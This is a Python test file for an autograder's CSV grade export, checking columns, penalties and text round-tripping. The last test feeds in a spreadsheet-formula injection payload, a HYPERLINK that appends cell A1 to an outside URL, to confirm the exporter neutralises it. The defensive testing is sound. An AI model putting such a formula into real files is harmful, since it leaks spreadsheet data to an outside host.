import csv
import io
from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st

from autograder.out.export import csv as format_csv
from autograder.out.grades import of_assignment
from autograder.results import ExerciseResult, Outcome, SubmissionResult
from tests.autograder.test_results import ADA, OMAR, TWICE


def render(results) -> bytes:
    return format_csv.render(of_assignment(results))


def read(results) -> list[dict]:
    return list(csv.DictReader(io.StringIO(render(results).decode(), newline="")))


def test_the_table_read_back():
    ada, omar = read([ADA, OMAR])
    assert list(ada.items()) == [
        ("assignment", "07_demo"),
        ("student", "ada"),
        ("check_double", "2.0"),
        ("check_total", "0.5"),
        ("why", ""),
        ("score", "2.5"),
        ("points", "6.5"),
        ("waiting", "3.0"),
        ("hours_late", "26.0"),
        ("problem", ""),
    ]
    assert (omar["student"], omar["check_double"], omar["problem"]) == ("omar", "", "the file is not JSON")


def test_the_bytes_of_a_table_without_penalties_and_doubled_names():
    assert render([ADA]) == (
        b"assignment,student,check_double,check_total,why,score,points,waiting,hours_late,problem\r\n"
        b"07_demo,ada,2.0,0.5,,2.5,6.5,3.0,26.0,\r\n"
    )


def test_a_name_that_stands_in_two_notebooks_has_a_column_for_each():
    (row,) = read([TWICE])
    assert [(name, row[name]) for name in list(row)[2:5]] == [
        ("p1/test_square", "3.0"),
        ("test_half", "2.0"),
        ("p2/test_square", "0.0"),
    ]
    assert row["score"] == "5.0"


def test_a_cell_that_is_called_like_a_column_of_ours_overwrites_none():
    exercises = tuple(
        ExerciseResult(name, 1.0, 2.0, Outcome.PARTIAL, notebook="p1") for name in ("score", "student", "penalty", "a")
    )
    (row,) = read([SubmissionResult("hw1", "ada", exercises)])
    assert list(row)[:6] == ["assignment", "student", "p1/score", "p1/student", "p1/penalty", "a"]
    assert (row["score"], row["student"], row["p1/score"]) == ("4.0", "ada", "1.0")


def test_a_late_penalty_counts_and_has_a_column_where_somebody_has_one():
    late, ada = read([replace(TWICE, penalty=3.5), ADA])
    assert list(late)[-6:] == ["penalty", "score", "points", "waiting", "hours_late", "problem"]
    assert (late["penalty"], late["score"], ada["penalty"], ada["score"]) == ("3.5", "1.5", "0.0", "2.5")


words = st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=12)


@given(words, words, st.floats(0, 999))
def test_any_text_survives(student, problem, score):
    exercise = ExerciseResult("check_double", score, 1000.0, Outcome.PARTIAL, problem)
    (row,) = read([SubmissionResult("07_demo", student, (exercise,), problem=problem)])
    assert (row["student"], row["problem"], float(row["score"])) == (shown(student), shown(problem), score)


def shown(text: str) -> str:
    return f"'{text}" if text[0] in "=+-@\t\r" else text


def test_what_a_spreadsheet_takes_for_a_formula_is_made_harmless():
    message = '=HYPERLINK("https://example.org?"&A1,"click")'
    (row,) = read([replace(ADA, student="@ada", problem=message)])
    assert (row["student"], row["problem"]) == ("'@ada", f"'{message}")
